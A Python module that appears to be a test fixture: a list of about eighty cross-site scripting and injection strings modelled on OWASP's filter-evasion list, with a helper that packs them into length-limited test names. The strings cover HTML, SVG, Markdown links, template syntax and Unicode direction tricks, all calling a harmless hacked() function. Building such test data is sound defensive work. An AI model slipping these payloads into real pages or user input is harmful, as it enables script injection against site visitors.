"""Texts that would be executed, or break what stands around them, in a page that is careless with words.

After OWASP's list of ways around filters: HTML, attributes, addresses, SVG, Markdown, encodings, and text
that runs the other way."""

import re

SHEET = [
    "<script>hacked()</script>",
    "<SCRIPT SRC=//127.0.0.1/x.js></SCRIPT>",
    "<img src=x onerror=hacked()>",
    '<IMG """><SCRIPT>hacked()</SCRIPT>"\\>',
    "<img src=`javascript:hacked()`>",
    "<img src=x:x onerror&#61;hacked()>",
    "<svg onload=hacked()>",
    "<svg><script>hacked()</script></svg>",
    "<svg><animate onbegin=hacked() attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:hacked()><text y=20>x</text></a></svg>",
    "<math><a xlink:href=javascript:hacked()>x</a></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hacked()>",
    "<iframe srcdoc='<script>parent.hacked()</script>'></iframe>",
    "<iframe src=javascript:hacked()></iframe>",
    "<object data=data:text/html,<script>hacked()</script>></object>",
    "<embed src=javascript:hacked()>",
    "<link rel=stylesheet href=javascript:hacked()>",
    "<meta http-equiv=refresh content='0;url=javascript:hacked()'>",
    "<base href=javascript:hacked()//>",
    "<form action=javascript:hacked()><button>x</button></form>",
    "<button formaction=javascript:hacked()>x</button>",
    "<input autofocus onfocus=hacked()>",
    "<details open ontoggle=hacked()><summary>x</summary></details>",
    "<video><source onerror=hacked()></video>",
    "<audio src=x onerror=hacked()>",
    "<body onload=hacked()>",
    "<style>@import 'javascript:hacked()';*{display:none}</style>",
    "<div style='position:fixed;inset:0;background:url(javascript:hacked())'>x</div>",
    "<template><img src=x onerror=hacked()></template>",
    "<noscript><p title='</noscript><img src=x onerror=hacked()>'>",
    "<x contenteditable onblur=hacked()>x</x>",
    "<!--><img src=x onerror=hacked()>-->",
    "<![CDATA[<img src=x onerror=hacked()>]]>",
    '"><img src=x onerror=hacked()>',
    "'><img src=x onerror=hacked()>",
    '" autofocus onfocus=hacked() x="',
    "' onmouseover='hacked()",
    "</textarea><script>hacked()</script>",
    "</title><script>hacked()</script>",
    "javascript:hacked()",
    "jAvAsCrIpT:hacked()",
    "java\tscript:hacked()",
    "&#106;avascript:hacked()",
    "vbscript:hacked()",
    "data:text/html,<script>hacked()</script>",
    "data:text/html;base64,PHNjcmlwdD5oYWNrZWQoKTwvc2NyaXB0Pg==",
    "[a link](javascript:hacked())",
    "[a link](JaVaScRiPt:hacked())",
    "[a link](java&#10;script:hacked())",
    "[a link](\x01javascript:hacked())",
    "[a link](data:text/html;base64,PHNjcmlwdD5oYWNrZWQoKTwvc2NyaXB0Pg==)",
    "[a link](vbscript:hacked())",
    "[a link](<javascript:hacked()>)",
    "[a link]: javascript:hacked()",
    '[a link](https://example.org/"onmouseover="hacked())',
    "![a picture](javascript:hacked())",
    '![a picture](x"onerror="hacked())',
    "![a picture](data:image/svg+xml,<svg/onload=hacked()>)",
    "<javascript:hacked()>",
    '<https://example.org/" onmouseover="hacked()>',
    'https://example.org/?q="><img src=x onerror=hacked()>',
    "`</code><img src=x onerror=hacked()>`",
    "```html\n</code></pre><img src=x onerror=hacked()>\n```",
    "> quoted <img src=x onerror=hacked()>",
    "| a | b |\n|---|---|\n| <img src=x onerror=hacked()> | [x](javascript:hacked()) |",
    "@<img src=x onerror=hacked()>",
    "#1<img src=x onerror=hacked()>",
    ":<img src=x onerror=hacked()>:",
    "{{constructor.constructor('hacked()')()}}",
    "${hacked()} <%= hacked() %> #{hacked()}",
    "__proto__",
    "constructor",
    "\uff1cscript\uff1ehacked()\uff1c/script\uff1e",
    "\u2028\u2029<img src=x onerror=hacked()>",
    "\u202e<img src=x onerror=hacked()>\u202c",
    "\u202eevil.exe\u202c.txt",
    "\ufeff<script>hacked()</script>",
    "مرحبا بكم <b>في</b> المطبخ",
    "a\u0300\u0301\u0302\u0303\u0304\u0305" * 4,
]


# Names may not hold them.
_CONTROLS = re.compile(r"[\x00-\x1f\u2028-\u202e\u2066-\u2069\ufeff]")


def within(limit: int) -> list[str]:
    """The sheet as names: in as few texts of so many characters as hold it; what is longer is cut."""
    texts = [""]
    for one in SHEET:
        one = " ".join(_CONTROLS.sub(" ", one)[:limit].split())
        if len(texts[-1]) + len(one) + 1 > limit:
            texts.append("")
        texts[-1] = f"{texts[-1]} {one}".strip()
    return texts
